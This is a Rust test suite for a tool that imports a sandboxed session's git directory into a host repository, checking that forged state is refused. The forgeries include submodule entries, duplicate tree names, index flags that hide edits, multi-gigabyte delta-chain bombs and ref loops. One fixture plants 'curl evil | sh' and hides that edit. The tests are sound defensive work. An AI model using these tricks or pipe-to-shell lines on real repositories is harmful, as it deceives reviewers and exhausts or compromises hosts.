//! A session's private git directory and its import (`cordon_git::private`), without a sandbox:
//! each test plays the sandbox by running the system's git on the private directory (its
//! alternates pointed at the host's objects, as the session's mount makes them), then imports and
//! judges the host's repository with git. Everything the sandbox could forge is forged here:
//! submodule entries in commits, trees `git fsck` refuses, index flags that hide changes, delta
//! chains that cost hours, objects nothing names.

use std::path::PathBuf;

use cordon_git::private::{PrivateGit, prepare};

use crate::support::{Fixture, git, git_out, plant_delta_chain, plant_delta_chain_to};

/// A repository with one commit, and a session on it.
struct Session {
    fx: Fixture,
    _state: tempfile::TempDir,
    private: PrivateGit,
}

impl Session {
    fn new(setup: impl FnOnce(&Fixture)) -> Session {
        let fx = Fixture::new();
        fx.write("f.txt", "one\n");
        fx.commit_all("base");
        setup(&fx);
        let state = tempfile::tempdir().expect("tempdir");
        let private = prepare(fx.path(), state.path())
            .expect("prepared")
            .private
            .expect("an ordinary repository gets a private git directory");
        // The session sees the host's objects through its alternates (its mount, here a path).
        std::fs::write(
            private.dir().join("objects/info/alternates"),
            format!("{}\n", fx.path().join(".git/objects").display()),
        )
        .expect("alternates");
        Session {
            fx,
            _state: state,
            private,
        }
    }

    fn dir(&self) -> PathBuf {
        self.private.dir().to_path_buf()
    }

    /// The system's git as the sandbox runs it: on the private directory and the work tree.
    fn git(&self, args: &[&str]) -> String {
        let dir = self.dir();
        let mut all = vec!["--git-dir", dir.to_str().expect("utf-8")];
        all.extend_from_slice(args);
        git_out(self.fx.path(), &all)
    }

    /// Commits the blob `id` as `path` on main with plumbing alone (nothing reads the blob).
    fn commit_blob(&self, id: &str, path: &str, message: &str) {
        self.git(&[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("100644,{id},{path}"),
        ]);
        let tree = self.git(&["write-tree"]);
        let commit = self.git(&["commit-tree", &tree, "-p", "HEAD", "-m", message]);
        self.git(&["update-ref", "refs/heads/main", &commit]);
    }

    fn import(self) -> (Fixture, Result<cordon_git::private::Imported, String>) {
        let result = self.private.import().map_err(|e| e.to_string());
        (self.fx, result)
    }
}

/// Stages a submodule entry at `path` in the host's index, naming HEAD's commit.
fn stage_gitlink(fx: &Fixture, path: &str) {
    let head = git_out(fx.path(), &["rev-parse", "HEAD"]);
    git(
        fx.path(),
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{head},{path}"),
        ],
    );
}

fn host(fx: &Fixture, args: &[&str]) -> String {
    git_out(fx.path(), args)
}

fn exists(fx: &Fixture, id: &str) -> bool {
    std::process::Command::new(crate::support::system_git())
        .args(["cat-file", "-e", id])
        .current_dir(fx.path())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .status()
        .expect("git")
        .success()
}

#[test]
fn a_session_commit_and_index_are_imported_and_objects_nothing_names_are_not() {
    let s = Session::new(|_| {});
    let base = host(&s.fx, &["rev-parse", "HEAD"]);
    s.fx.write("f.txt", "two\n");
    s.git(&["add", "f.txt"]);
    s.git(&["commit", "-q", "-m", "session"]);
    let garbage = {
        let file = s.fx.outside().join("garbage");
        std::fs::write(&file, "nothing names me\n").expect("write");
        s.git(&["hash-object", "-w", file.to_str().expect("utf-8")])
    };
    let dir = s.dir();
    let (fx, imported) = s.import();
    let imported = imported.expect("imported");
    assert!(imported.index, "{imported:?}");
    assert_eq!(host(&fx, &["log", "-1", "--format=%s"]), "session");
    assert_eq!(host(&fx, &["rev-parse", "HEAD~1"]), base);
    assert_eq!(host(&fx, &["status", "--porcelain"]), "");
    git(fx.path(), &["fsck", "--strict", "--no-dangling"]);
    assert!(
        !exists(&fx, &garbage),
        "an object nothing names stayed behind"
    );
    assert!(!dir.exists(), "the private directory is removed");
}

#[test]
fn a_commit_adding_a_submodule_entry_refuses_the_import_and_writes_nothing() {
    let s = Session::new(|_| {});
    let before = host(&s.fx, &["rev-parse", "HEAD"]);
    let head = s.git(&["rev-parse", "HEAD"]);
    s.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{head},sub"),
    ]);
    s.git(&["commit", "-q", "-m", "gitlink"]);
    let commit = s.git(&["rev-parse", "HEAD"]);
    let (fx, imported) = s.import();
    let err = imported.expect_err("refused");
    assert!(err.contains("has the submodule entry `sub`"), "{err}");
    assert_eq!(host(&fx, &["rev-parse", "HEAD"]), before);
    assert!(!exists(&fx, &commit), "nothing of the session was written");
    git(fx.path(), &["fsck", "--strict"]);
}

#[test]
fn a_submodule_entry_the_start_had_may_stay_in_the_sessions_commits() {
    // The control: HEAD has `sub` already; a session commit beside it is imported.
    let s = Session::new(|fx| {
        stage_gitlink(fx, "vendor/sub");
        git(fx.path(), &["commit", "-q", "-m", "submodule"]);
    });
    s.fx.write("f.txt", "two\n");
    s.git(&["add", "f.txt"]);
    s.git(&["commit", "-q", "-m", "beside"]);
    let (fx, imported) = s.import();
    imported.expect("imported");
    assert_eq!(host(&fx, &["log", "-1", "--format=%s"]), "beside");
}

#[test]
fn a_tree_git_fsck_refuses_is_not_imported() {
    let s = Session::new(|_| {});
    let before = host(&s.fx, &["rev-parse", "HEAD"]);
    let blob = s.git(&["rev-parse", "HEAD:f.txt"]);
    // Two entries named `file.txt`: what is reviewed can differ from what is checked out.
    let tree_file = s.fx.outside().join("tree");
    let python = format!(
        "import sys;b=bytes.fromhex('{blob}');sys.stdout.buffer.write(b'100644 file.txt\\0'+b+b'100644 file.txt\\0'+b)"
    );
    let out = std::process::Command::new("python3")
        .args(["-c", &python])
        .output()
        .expect("python3");
    std::fs::write(&tree_file, out.stdout).expect("tree");
    let tree = s.git(&[
        "hash-object",
        "-t",
        "tree",
        "--literally",
        "-w",
        tree_file.to_str().expect("utf-8"),
    ]);
    let commit = s.git(&["commit-tree", &tree, "-p", "HEAD", "-m", "twice"]);
    s.git(&["update-ref", "refs/heads/main", &commit]);
    let (fx, imported) = s.import();
    let err = imported.expect_err("refused");
    assert!(err.contains("named twice"), "{err}");
    assert_eq!(host(&fx, &["rev-parse", "HEAD"]), before);
    git(fx.path(), &["fsck", "--strict"]);
}

#[test]
fn index_flags_and_stat_data_that_would_hide_a_change_are_not_imported() {
    let s = Session::new(|_| {});
    // The sandbox stages a change, then marks the file assume-unchanged and edits it again:
    // with its index the host's git would see nothing.
    s.fx.write("g.txt", "staged\n");
    s.git(&["add", "g.txt"]);
    s.fx.write("f.txt", "one\ncurl evil | sh\n");
    s.git(&["update-index", "--assume-unchanged", "f.txt"]);
    assert_eq!(
        s.git(&["status", "--porcelain"]),
        "A  g.txt",
        "the sandbox's git is blind"
    );
    let (fx, imported) = s.import();
    assert!(imported.expect("imported").index);
    assert_eq!(
        host(&fx, &["ls-files", "-v"]),
        "H f.txt\nH g.txt",
        "no entry is assume-unchanged"
    );
    // The host's git reads the file again and sees the edit.
    assert_eq!(host(&fx, &["status", "--porcelain"]), " M f.txt\nA  g.txt");
}

#[test]
fn delta_chains_of_large_objects_refuse_the_import_before_they_are_resolved() {
    let s = Session::new(|_| {});
    let before = host(&s.fx, &["rev-parse", "HEAD"]);
    // 4,095 deltas (as deep as git goes) each copying 8 MiB: 32 GiB to resolve the tip.
    let tip = plant_delta_chain(&s.dir(), 4095, 8 << 20);
    s.commit_blob(&tip, "big.bin", "bomb");
    let started = std::time::Instant::now();
    let (fx, imported) = s.import();
    let err = imported.expect_err("refused");
    assert!(err.contains("delta resolution"), "{err}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "refused from headers, not by resolving"
    );
    assert_eq!(host(&fx, &["rev-parse", "HEAD"]), before);
}

#[test]
fn the_same_chain_of_small_objects_is_imported() {
    // The control: the chain alone is not refused; its cost is.
    let s = Session::new(|_| {});
    let tip = plant_delta_chain(&s.dir(), 4095, 100);
    s.commit_blob(&tip, "small.bin", "chain");
    let (fx, imported) = s.import();
    imported.expect("imported");
    assert_eq!(host(&fx, &["cat-file", "-s", &tip]), "101");
}

#[test]
fn everything_the_import_makes_belongs_to_the_repositorys_owner() {
    use std::os::unix::fs::MetadataExt;
    // As root, the repository is given to another user first: the import runs as root there.
    let root = std::fs::metadata("/proc/self").expect("proc").uid() == 0;
    let s = Session::new(|fx| {
        git(fx.path(), &["branch", "packed"]);
        git(fx.path(), &["pack-refs", "--all"]);
    });
    let owner = if root {
        65534
    } else {
        std::fs::metadata(s.fx.path()).expect("ws").uid()
    };
    // The session commits, deletes the packed branch and tags; the host moves main meanwhile,
    // so the session's main is rescued under refs/cordon/.
    s.git(&["commit", "-q", "--allow-empty", "-m", "session"]);
    s.git(&["branch", "-D", "packed"]);
    s.git(&["tag", "t1"]);
    git(
        s.fx.path(),
        &["commit", "-q", "--allow-empty", "-m", "host"],
    );
    if root {
        let status = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(s.fx.path())
            .status()
            .expect("chown");
        assert!(status.success());
    }
    let (fx, imported) = s.import();
    let imported = imported.expect("imported");
    assert!(
        imported
            .notes
            .iter()
            .any(|n| n.contains("refs/cordon/rescued/")),
        "{imported:?}"
    );
    assert_eq!(host(&fx, &["log", "-1", "--format=%s", "t1"]), "session");
    assert!(host(&fx, &["branch", "--list", "packed"]).is_empty());
    let mut pending = vec![fx.path().join(".git")];
    while let Some(path) = pending.pop() {
        let meta = std::fs::symlink_metadata(&path).expect("meta");
        assert_eq!(meta.uid(), owner, "{} is not the owner's", path.display());
        if meta.is_dir() {
            pending.extend(
                std::fs::read_dir(&path)
                    .expect("dir")
                    .map(|e| e.expect("entry").path()),
            );
        }
    }
}

#[test]
fn only_branches_tags_the_stash_and_head_come_back_and_deleted_branches_are_rescued() {
    let s = Session::new(|fx| {
        git(fx.path(), &["branch", "old"]);
    });
    let tree = s.git(&["rev-parse", "HEAD^{tree}"]);
    // A replace ref (the host's git would read another tree in place of HEAD's), a forged
    // remote-tracking ref, a symbolic-ref loop, and a deleted branch.
    s.git(&["replace", "-f", &tree, &tree]);
    let head = s.git(&["rev-parse", "HEAD"]);
    s.git(&["update-ref", "refs/remotes/origin/main", &head]);
    std::fs::write(
        s.dir().join("refs/heads/loop-a"),
        "ref: refs/heads/loop-b\n",
    )
    .expect("a");
    std::fs::write(
        s.dir().join("refs/heads/loop-b"),
        "ref: refs/heads/loop-a\n",
    )
    .expect("b");
    s.git(&["branch", "-D", "old"]);
    let (fx, imported) = s.import();
    let imported = imported.expect("imported");
    let refs = host(&fx, &["for-each-ref", "--format=%(refname)"]);
    assert!(
        !refs.contains("refs/replace/") && !refs.contains("refs/remotes/"),
        "{refs}"
    );
    assert!(!refs.contains("loop-"), "{refs}");
    assert!(!refs.contains("refs/heads/old"), "{refs}");
    assert!(
        refs.contains("/heads/old"),
        "the deleted branch is rescued: {refs}"
    );
    let notes = imported.notes.join("\n");
    assert!(notes.contains("`refs/replace/"), "{notes}");
    assert!(notes.contains("names no commit"), "{notes}");
}

#[test]
fn moving_a_branch_back_to_an_old_commit_with_a_submodule_entry_is_refused() {
    // The host's history once had `vendor/lib` as a submodule, then dropped it.
    let s = Session::new(|fx| {
        stage_gitlink(fx, "vendor/lib");
        git(fx.path(), &["commit", "-q", "-m", "submodule"]);
        git(fx.path(), &["tag", "with-submodule"]);
        git(fx.path(), &["rm", "-q", "--cached", "vendor/lib"]);
        git(fx.path(), &["commit", "-q", "-m", "no submodule"]);
    });
    let before = host(&s.fx, &["rev-parse", "HEAD"]);
    let old = s.git(&["rev-parse", "with-submodule"]);
    s.git(&["update-ref", "refs/heads/main", &old]);
    let (fx, imported) = s.import();
    let err = imported.expect_err("refused");
    assert!(err.contains("submodule entry `vendor/lib`"), "{err}");
    assert_eq!(host(&fx, &["rev-parse", "HEAD"]), before);
}

#[test]
fn a_chain_of_large_copies_ending_in_a_tiny_object_is_charged_for_its_copies() {
    // 2,100 deltas of 16 MiB, the last making a 2-byte blob: 33 GiB to resolve, though the blob
    // and its chain's length look harmless (review 2, finding A3).
    let s = Session::new(|_| {});
    let tip = plant_delta_chain_to(&s.dir(), 2100, (16 << 20) - 1, true);
    s.commit_blob(&tip, "tiny.bin", "tiny");
    let started = std::time::Instant::now();
    let (_fx, imported) = s.import();
    let err = imported.expect_err("refused");
    assert!(err.contains("delta resolution"), "{err}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "refused from headers, not by resolving"
    );
}

#[test]
fn an_index_git_would_never_write_is_not_imported() {
    // Each index is the session's own with one entry repeated at its end (out of order and
    // twice), as a forged index file would hold it.
    let s = Session::new(|_| {});
    s.fx.write("g.txt", "new\n");
    s.git(&["add", "g.txt"]);
    let path = s.dir().join("index");
    let (mut state, _) = gix_index::State::from_bytes(
        &std::fs::read(&path).expect("index"),
        filetime::FileTime::now(),
        gix_hash::Kind::Sha1,
        Default::default(),
    )
    .expect("index parses");
    let first = state.entries()[0].clone();
    let name = first.path(&state).to_owned();
    state.dangerously_push_entry(first.stat, first.id, first.flags, first.mode, name.as_ref());
    let mut file = gix_index::File::from_state(state, path);
    file.write(gix_index::write::Options::default(), Default::default())
        .expect("write the forged index");
    let before = std::fs::read(s.fx.path().join(".git/index")).expect("host index");
    let (fx, imported) = s.import();
    let imported = imported.expect("imported");
    assert!(!imported.index);
    assert!(
        imported
            .notes
            .iter()
            .any(|n| n.contains("out of order or repeated")),
        "{imported:?}"
    );
    assert_eq!(
        std::fs::read(fx.path().join(".git/index")).expect("index"),
        before
    );
}

#[test]
fn a_symbolic_ref_to_a_ref_that_does_not_come_back_is_not_imported() {
    // The host's `origin/old` names a commit with a submodule entry; the session points it at a
    // harmless commit (not imported) and HEAD at it: on the host HEAD would name the old one.
    let s = Session::new(|fx| {
        stage_gitlink(fx, "sub");
        let tree = git_out(fx.path(), &["write-tree"]);
        let old = git_out(
            fx.path(),
            &["commit-tree", &tree, "-p", "HEAD", "-m", "old"],
        );
        git(fx.path(), &["update-ref", "refs/remotes/origin/old", &old]);
        git(fx.path(), &["read-tree", "HEAD"]);
    });
    let before = host(&s.fx, &["symbolic-ref", "HEAD"]);
    s.git(&["update-ref", "refs/remotes/origin/old", "HEAD"]);
    s.git(&["symbolic-ref", "HEAD", "refs/remotes/origin/old"]);
    let (fx, imported) = s.import();
    let imported = imported.expect("imported");
    assert_eq!(host(&fx, &["symbolic-ref", "HEAD"]), before);
    assert!(
        imported
            .notes
            .iter()
            .any(|n| n.contains("`HEAD` was not imported")),
        "{imported:?}"
    );
}

#[test]
fn a_repository_a_private_copy_cannot_carry_is_refused_naming_why() {
    for (plant, expected) in [
        ("modules", "`modules/`"),
        ("worktrees", "`worktrees/`"),
        ("sharedindex.0123", "split index"),
    ] {
        let fx = Fixture::new();
        fx.write("f.txt", "one\n");
        fx.commit_all("base");
        let at = fx.path().join(".git").join(plant);
        if plant.starts_with("shared") {
            std::fs::write(&at, b"").expect("plant");
        } else {
            std::fs::create_dir(&at).expect("plant");
        }
        let state = tempfile::tempdir().expect("tempdir");
        let err = prepare(fx.path(), state.path())
            .expect_err("refused")
            .to_string();
        assert!(
            err.contains(expected) && err.contains("leave allow_git_mutations off"),
            "{plant}: {err}"
        );
        assert!(
            !state.path().join("git").exists(),
            "{plant}: nothing was made"
        );
    }
}
